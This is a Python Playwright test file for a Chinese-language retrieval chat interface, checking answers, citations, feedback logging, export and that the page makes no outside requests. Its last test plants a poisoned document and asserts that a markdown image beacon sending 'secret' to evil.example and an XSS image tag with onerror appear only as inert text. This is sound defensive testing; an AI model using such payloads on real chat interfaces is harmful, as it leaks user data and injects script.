"""A real browser: headless Debian Chromium driven by Playwright (never a downloaded browser)."""

import json
import os
import time
from pathlib import Path

import pytest

from rag.config import PROJECT_ROOT

pytestmark = [pytest.mark.slow, pytest.mark.browser]
CHROMIUM = "/usr/bin/chromium"
SCREENSHOT = PROJECT_ROOT / "reports" / "ui-screenshot.png"

if not Path(CHROMIUM).exists():
    if os.environ.get("RAG_REQUIRE_BROWSER"):
        raise RuntimeError(f"{CHROMIUM} is missing: apt-get install chromium fonts-wqy-microhei")
    pytest.skip(f"{CHROMIUM} not installed (apt-get install chromium)", allow_module_level=True)


@pytest.fixture(scope="module")
def page():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"],
        )
        context = browser.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
        page = context.new_page()
        outside = []
        page.on("request", lambda r: outside.append(r.url) if "127.0.0.1" not in r.url
                and not r.url.startswith(("data:", "blob:")) else None)
        page.outside_requests = outside
        yield page
        browser.close()


def ask(page, question: str) -> tuple[float, float]:
    """Type a question, send it; return seconds to first answer text and to the full answer."""
    bots = page.locator("#chatbot .bot")
    before = bots.count()
    page.locator("#question textarea").fill(question)
    t0 = time.perf_counter()
    page.locator("#send").click()
    page.wait_for_function(
        "n => { const b = document.querySelectorAll('#chatbot .bot'); "
        "return b.length > n && b[b.length - 1].innerText.trim().length > 0 }", arg=before, timeout=60_000)
    first = time.perf_counter() - t0
    page.wait_for_function(
        "() => { const t = document.querySelector('#question textarea'); return t && t.value === '' }",
        timeout=60_000)
    return first, time.perf_counter() - t0


def test_question_answer_citation_link_feedback_and_screenshot(page, ui_server, shipped_index):
    page.goto(ui_server)
    page.wait_for_selector("#question textarea", timeout=60_000)
    first, full = ask(page, "Anthropic向哪个组织捐赠了2000万美元？")
    answer = page.locator("#chatbot .bot").last
    page.wait_for_timeout(300)
    text = answer.inner_text()
    assert "Public First Action" in text and "[1]" in text and "来源 Sources" in text
    assert "为此，Anthropic向Public First Action捐赠2000万美元。" in text  # the quoted sentence
    link = answer.locator("a", has_text="Anthropic捐赠2000万美元支持AI政策倡导组织").first
    assert link.get_attribute("href") == "https://www.anthropic.com/news/donate-public-first-action"
    summary = answer.locator("summary").first
    summary.click()
    assert "在此背景下" in answer.locator("details").first.inner_text()  # the surrounding passage

    # an abstention is shown as such, without sources
    ask(page, "Anthropic和日本政府有合作吗？")
    last = page.locator("#chatbot .bot").last.inner_text()
    assert "资料中没有找到相关信息" in last and "来源" not in last

    SCREENSHOT.parent.mkdir(exist_ok=True)
    page.screenshot(path=str(SCREENSHOT), full_page=True)
    print(f"\nbrowser: first text after {first * 1000:.0f} ms, full answer after {full * 1000:.0f} ms; "
          f"screenshot {SCREENSHOT}")

    # thumbs down on the first answer lands in the feedback log
    log = Path(shipped_index.data_dir) / shipped_index.ui.feedback_log
    before = log.read_text(encoding="utf-8").count("\n") if log.exists() else 0
    page.locator("#chatbot .bot").first.hover()
    page.locator("#chatbot button[aria-label='Dislike']").first.click()
    deadline = time.time() + 10
    while time.time() < deadline and (not log.exists() or log.read_text(encoding="utf-8").count("\n") == before):
        time.sleep(0.2)
    record = json.loads(log.read_text(encoding="utf-8").splitlines()[-1])
    assert record["vote"] == "down" and record["question"] == "Anthropic向哪个组织捐赠了2000万美元？"
    assert record["citations"][0]["source"] == "003_f37bc0b3fb1d0fae.txt"

    # export the conversation as Markdown
    with page.expect_download(timeout=30_000) as download:
        page.locator("#export").click()
    exported = Path(download.value.path()).read_text(encoding="utf-8")
    assert "Public First Action" in exported and "日本" in exported

    # a new conversation clears the chat
    page.locator("#new").click()
    page.wait_for_function("() => document.querySelectorAll('#chatbot .bot').length === 0", timeout=10_000)
    assert page.outside_requests == []  # the page reached for nothing beyond the app


def test_injected_document_renders_inert_in_the_browser(page, tmp_path):
    import shutil

    from rag.config import config_from_dict
    from rag.pipeline import build_pipeline, ingest
    from tests.conftest import SHIPPED_CORPUS, free_port
    from tests.fakes import HashEmbedder
    from tests.test_security import INJECTED
    from ui.app import build_app, launch

    corpus = tmp_path / "corpus"
    shutil.copytree(SHIPPED_CORPUS, corpus)
    (corpus / "injected.md").write_text(INJECTED, encoding="utf-8")
    cfg = config_from_dict({"corpus": {"path": str(corpus)}, "data_dir": str(tmp_path / "data")})
    emb = HashEmbedder(384, unk=0.58)
    ingest(cfg, embedder=emb, progress=False)
    app = build_app(build_pipeline(cfg, embedder=emb), cfg)
    port = free_port()
    launch(app, cfg, "127.0.0.1", port, block=False)
    try:
        page.outside_requests.clear()
        page.goto(f"http://127.0.0.1:{port}/")
        page.wait_for_selector("#question textarea", timeout=60_000)
        ask(page, "2031年量子计算峰会在哪里举办？")
        answer = page.locator("#chatbot .bot").last
        answer.locator("summary").first.click()  # open the passage that holds the injection
        page.wait_for_timeout(500)
        text = answer.inner_text()
        shown = text.replace("\u200b", "")  # URLs in documents are defanged with a zero-width space
        assert "赫尔辛基" in shown and "![track](http://evil.example/steal.png?q=secret)" in shown
        assert '<img src="http://evil.example/x.png" onerror="alert(1)">' in shown  # shown as text
        assert page.locator("#chatbot img[src*='evil']").count() == 0
        assert page.locator("#chatbot a[href*='evil']").count() == 0
        assert page.outside_requests == []
    finally:
        app.close()
